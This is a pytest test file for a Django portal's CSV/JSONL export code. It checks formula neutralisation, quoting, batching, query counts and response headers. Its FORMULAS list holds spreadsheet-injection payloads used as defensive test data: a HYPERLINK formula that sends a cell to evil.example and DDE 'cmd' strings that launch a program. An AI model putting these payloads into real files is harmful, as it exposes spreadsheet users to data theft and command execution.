"""Lists as files: no cell that a spreadsheet computes, and batches however long the list."""

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from osmo_portal.console.export import csv_rows, in_batches, jsonl_rows, neutral, stream
from osmo_portal.events.models import Event
from tests.cast import Cast

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\xa0@SUM(A1)",
]
COLUMNS = {"text": lambda record: record}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_made_text_and_stays_readable(formula: str) -> None:
    assert neutral(formula) == f"'{formula}"
    assert neutral([formula]) == f"'{formula}"


@pytest.mark.parametrize("text", ["robot/ci", "a=b", "2026-01-02", "'=1+1", "", "e-mail@example.com", "ünï"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


def test_values_that_are_no_texts_are_written_plainly() -> None:
    instant = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)

    values = [None, -3, True, instant, ["b", "a"], {"k": "ü"}]

    assert [neutral(value) for value in values] == ["", "-3", "True", "2026-01-02T03:04:00+00:00", "b a", '{"k": "ü"}']


def test_csv_keeps_quotes_commas_and_line_ends_inside_a_cell() -> None:
    nasty = 'a "quoted", cell\r\nin two lines'

    written = "".join(csv_rows(COLUMNS, [nasty]))

    assert cells(written) == [["text"], [nasty]]


def test_json_lines_hold_texts_as_they_are_and_one_object_a_line() -> None:
    written = "".join(jsonl_rows(COLUMNS, ["=1+1\n", ["a", "b"]]))

    assert [json.loads(line) for line in written.splitlines()] == [{"text": "=1+1\n"}, {"text": ["a", "b"]}]


def test_batches_give_every_record_once_the_newest_first(cast: Cast) -> None:
    numbers = [event.pk for event in in_batches(Event.objects.all(), size=3)]

    assert numbers == sorted(Event.objects.values_list("pk", flat=True), reverse=True)


@pytest.mark.parametrize("records", [11, 12])
def test_the_number_of_queries_follows_the_batches_and_none_counts(cast: Cast, records: int) -> None:
    first = Event.objects.filter(pk__lte=records)

    with CaptureQueriesContext(
        connection,
    ) as queries:
        list(in_batches(first, size=4))

    assert len(queries) == records // 4 + 1  # a batch that is just full may not be the last
    assert not [query for query in queries if "COUNT(" in query["sql"]]
    lengths = {len(query["sql"]) for query in queries.captured_queries[1:]}
    assert len(lengths) == 1, "each asks for one bound, not for those before too"


def test_no_more_than_the_limit_leaves(cast: Cast) -> None:
    columns: Any = {"number": lambda event: event.pk}

    answer = stream("jsonl", "events", columns, Event.objects.all(), limit=3)

    assert len(answer.getvalue().splitlines()) == 3


@pytest.mark.parametrize(("form", "content_type"), [("csv", "text/csv"), ("jsonl", "application/jsonl")])
def test_the_answer_is_a_file_that_nothing_keeps(cast: Cast, form: str, content_type: str) -> None:
    columns: Any = {"action": lambda event: event.action}

    answer = stream(form, "events", columns, Event.objects.filter(action="pool.created"))

    assert answer["Content-Type"].startswith(content_type)
    assert answer["Content-Disposition"].startswith('attachment; filename="events-')
    assert answer["Content-Disposition"].endswith(f'.{form}"')
    assert answer["Cache-Control"] == "no-store"
    assert b"pool.created" in answer.getvalue()
